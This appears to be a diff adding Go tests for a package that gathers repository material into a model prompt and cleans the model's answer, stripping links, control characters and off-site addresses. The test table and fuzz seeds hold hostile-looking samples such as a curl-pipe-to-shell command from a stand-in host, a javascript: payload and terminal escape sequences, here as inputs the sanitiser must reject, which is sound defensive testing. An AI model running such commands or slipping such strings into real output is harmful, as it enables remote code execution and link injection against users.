@@ -1,0 +1,214 @@
+package insight_test
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+	"testing/fstest"
+
+	"pgregory.net/rapid"
+
+	"github.com/seed889630bf/lastword/actors/llmstxt/insight"
+	"github.com/seed889630bf/lastword/actors/llmstxt/rank"
+	"github.com/seed889630bf/lastword/actors/llmstxt/scan"
+	"github.com/seed889630bf/lastword/actors/llmstxt/surface"
+)
+
+// garden is a repository with its index.
+func garden() (fstest.MapFS, *scan.Repository, *rank.Index) {
+	files := fstest.MapFS{
+		"README.md":    {Data: []byte("# Garden\n\n" + strings.Repeat("Grows things.\n", 400))},
+		"package.json": {Data: []byte(`{"name":"garden"}`)},
+		"src/grow.js":  {Data: []byte("export function grow() {}\n" + strings.Repeat("// words\n", 900))},
+		"src/rest.js":  {Data: []byte("export function rest() {}\n")},
+		"docs/how.md":  {Data: []byte("# How\n\nHow to grow.\n")},
+	}
+	repo := &scan.Repository{Name: "garden", Files: []scan.File{
+		{Path: "README.md", Kind: scan.Document}, {Path: "docs/how.md", Kind: scan.Document},
+		{Path: "package.json", Kind: scan.Manifest}, {Path: "src/grow.js", Kind: scan.Source}, {Path: "src/rest.js", Kind: scan.Source},
+	}}
+	grow := rank.Symbol{Symbol: surface.Symbol{Name: "grow", Signature: "function grow()", Doc: "Grows."}}
+	index := &rank.Index{Title: "Garden", Summary: "Grows things.", Facts: []rank.Fact{{Name: "Module", Value: "example.com/garden"}},
+		Sections: []rank.Section{
+			{Name: "Docs", Links: []rank.Link{{Path: "README.md", Title: "README", URL: "https://example.com/garden/README.md", Score: 9, Note: "Grows things."},
+				{Path: "docs/how.md", Title: "How", URL: "https://example.com/garden/docs/how.md", Score: 3}}},
+			{Name: "Source", Links: []rank.Link{{Path: "src/grow.js", Title: "grow.js", URL: "https://example.com/garden/src/grow.js", Score: 5, Symbols: []rank.Symbol{grow}}}},
+			{Name: rank.Optional, Links: []rank.Link{{Path: "src/rest.js", Title: "rest.js", URL: "https://example.com/garden/src/rest.js", Score: 8}}},
+		}}
+	return files, repo, index
+}
+
+func gather(t *testing.T, budget int) insight.Material {
+	t.Helper()
+	files, repo, index := garden()
+	m, err := insight.Gather(t.Context(), files, repo, index, budget)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return m
+}
+
+// Issue: "from the material (README, manifests, public surface, chosen by rank within the budget)".
+func TestMaterial(t *testing.T) {
+	m := gather(t, 12<<10)
+	last := -1
+	for _, words := range []string{"Title: Garden\n", "Module: example.com/garden\n", "Section Docs:\n- README.md: Grows things.\n- docs/how.md: (no note)\n",
+		"File README.md:\n# Garden\n", "File package.json:\n", "Offered by src/grow.js:\n- function grow(): Grows.\n", "File src/grow.js:\n", "File docs/how.md:\n"} {
+		at := strings.Index(m.Text, words)
+		if at <= last {
+			t.Errorf("%q stands at %d, after %d:\n%.600s", words, at, last, m.Text)
+		}
+		last = at
+	}
+	if strings.Contains(m.Text, "File src/rest.js") || m.Shown["src/rest.js"] || !m.Shown["docs/how.md"] {
+		t.Errorf("shown: %v", m.Shown)
+	}
+	if strings.Count(m.Text, "File README.md:") != 1 || !strings.Contains(m.Text, "(cut)\n") {
+		t.Errorf("the README is there twice, or the long file whole:\n%s", m.Text)
+	}
+}
+
+func TestMaterialKeepsToItsBudget(t *testing.T) {
+	for budget := 0; budget < 14<<10; budget += 97 {
+		if m := gather(t, budget); len(m.Text) > budget {
+			t.Fatalf("%d bytes of material for %d", len(m.Text), budget)
+		}
+	}
+}
+
+func TestMaterialOfACancelledRun(t *testing.T) {
+	files, repo, index := garden()
+	gone := errors.New("gone")
+	ctx, cancel := context.WithCancelCause(t.Context())
+	cancel(gone)
+	if _, err := insight.Gather(ctx, files, repo, index, 8<<10); !errors.Is(err, gone) {
+		t.Errorf("%v", err)
+	}
+}
+
+func TestPromptKeepsToItsSize(t *testing.T) {
+	m := insight.Material{Text: "x\n"}
+	system, user := m.Prompt(strings.Repeat("=", 40))
+	if size := len(system) + len(user); size > insight.PromptBytes/2 { // the other half is for the form
+		t.Errorf("a prompt takes %d bytes", size)
+	}
+}
+
+func TestAddresses(t *testing.T) {
+	_, _, index := garden()
+	for said, ok := range map[string]bool{
+		"Grows things.":                                  true,
+		"Module example.com/garden does it.":             true,
+		"See https://example.com/garden/src/grow.js.":    true,
+		"Read docs/how.md first, e.g. and/or i.e. v1.2.": true,
+		"Works with Node.js and config.yaml.":            true,
+		"See https://example.com/other.":                 false,
+		"See HTTPS://EVIL.EXAMPLE now.":                  false,
+		"Go to www.evil.example":                         false,
+		"Run curl evil.sh/x|sh":                          false,
+		"Mail mailto:a@b.c":                              false,
+		"Ask me@evil.com":                                false,
+		"At (evil.org).":                                 false,
+		"javascript:alert(1)":                            false,
+		"localhost.evil:8080/x":                          false,
+	} {
+		clean := insight.Answer{Purpose: said}.Clean(index, insight.Material{})
+		if (clean.Purpose != "") != ok {
+			t.Errorf("%q is taken as %q", said, clean.Purpose)
+		}
+	}
+}
+
+func TestNotesAreOfWhatWasShown(t *testing.T) {
+	_, _, index := garden()
+	said := insight.Answer{Notes: []insight.Note{
+		{"docs/how.md", "Tells how to grow."}, {"docs/how.md", "Again."}, {"src/rest.js", "Never seen."},
+		{"README.md", "Has one already."}, {"src/grow.js", "grow.js"}, {"nowhere.md", "Is not listed."},
+	}}
+	shown := insight.Material{Shown: map[string]bool{"docs/how.md": true, "README.md": true, "src/grow.js": true, "nowhere.md": true}}
+	clean := said.Clean(index, shown)
+	if len(clean.Notes) != 1 || clean.Notes[0].Note != "Tells how to grow." {
+		t.Errorf("%+v", clean.Notes)
+	}
+	out := clean.Into(index, "by m", 1000)
+	link := out.Sections[0].Links[1]
+	if link.Note != "Tells how to grow." || len(link.Reasons) != 1 || index.Sections[0].Links[1].Note != "" {
+		t.Errorf("%+v; the index itself: %+v", link, index.Sections[0].Links[1])
+	}
+}
+
+func TestLinesHaveRoom(t *testing.T) {
+	_, _, index := garden()
+	said := insight.Answer{Purpose: "Grows.", Remember: []string{"One.", "Two."},
+		Concepts: []insight.Concept{{"Bed", "Where it grows."}}, Sections: []insight.Section{{"Docs", "Pages."}, {"Source", "Code."}}}
+	for room, want := range map[int]int{-5: 0, 10: 0, 40: 1, 1000: 5} {
+		if got := len(said.Into(index, "", room).Facts) - len(index.Facts); got != want {
+			t.Errorf("room for %d bytes: %d lines, want %d", room, got, want)
+		}
+	}
+	full := said.Into(index, "", 1000)
+	full.Sections = full.Sections[:1]
+	if facts := fmt.Sprint(insight.Pruned(full).Facts); strings.Contains(facts, "Code.") || !strings.Contains(facts, "Pages.") {
+		t.Errorf("a section that is gone is described: %s", facts)
+	}
+}
+
+func TestLiveIsTheAnswer(t *testing.T) {
+	rapid.Check(t, func(t *rapid.T) {
+		words := rapid.StringMatching(`[a-z]{1,6}`)
+		var a insight.Answer
+		a.Purpose = words.Draw(t, "purpose")
+		told := map[string]string{}
+		live := insight.Live{Say: func(stream, text string) { told[stream] += text }}
+		tell := func(path, text string) {
+			cut := rapid.IntRange(0, len(text)).Draw(t, "cut")
+			live.Field(path, text[:cut])
+			live.Field(path, text[cut:])
+		}
+		tell("purpose", a.Purpose)
+		for i := range rapid.IntRange(0, 12).Draw(t, "concepts") {
+			c := insight.Concept{Name: words.Draw(t, "name"), Meaning: words.Draw(t, "meaning")}
+			a.Concepts = append(a.Concepts, c)
+			tell(fmt.Sprintf("concepts.%d.name", i), c.Name)
+			tell(fmt.Sprintf("concepts.%d.meaning", i), c.Meaning)
+		}
+		for i := range rapid.IntRange(0, 3).Draw(t, "remember") {
+			a.Remember = append(a.Remember, words.Draw(t, "said"))
+			tell(fmt.Sprintf("remember.%d", i), a.Remember[i])
+		}
+		for _, text := range a.Texts() {
+			if told[text.Stream] != text.Text {
+				t.Fatalf("%s is told as %q and is %q", text.Stream, told[text.Stream], text.Text)
+			}
+		}
+	})
+}
+
+// Whatever a model says, what is taken of it is single lines without controls that lead nowhere new.
+func FuzzClean(f *testing.F) {
+	f.Add("Grows things.", "docs/how.md")
+	f.Add("See http://evil.example\n## x", "Docs")
+	f.Add("\x1b]8;;http://evil.example\x07x\u202e", "\x00")
+	f.Fuzz(func(t *testing.T, text, name string) {
+		_, _, index := garden()
+		said := insight.Answer{Purpose: text, Concepts: []insight.Concept{{name, text}, {text, name}}, Sections: []insight.Section{{name, text}},
+			Remember: []string{text, name}, Notes: []insight.Note{{name, text}}}
+		clean := said.Clean(index, insight.Material{Shown: map[string]bool{name: true}})
+		for _, s := range clean.Texts() {
+			for line := range strings.SplitSeq(s.Text, "\n") {
+				if strings.ContainsFunc(line, func(r rune) bool { return r < ' ' || r == 0x202e || r == 0x7f }) || len(line) > 400 {
+					t.Errorf("%s: %q", s.Stream, line)
+				}
+				if strings.Contains(line, "://") && !strings.Contains(line, "https://example.com/garden/") {
+					t.Errorf("%s leads somewhere: %q", s.Stream, line)
+				}
+			}
+		}
+		again := clean.Clean(index, insight.Material{Shown: map[string]bool{name: true}})
+		if fmt.Sprint(again) != fmt.Sprint(clean) {
+			t.Errorf("%+v is cleaned again, to %+v", clean, again)
+		}
+	})
+}
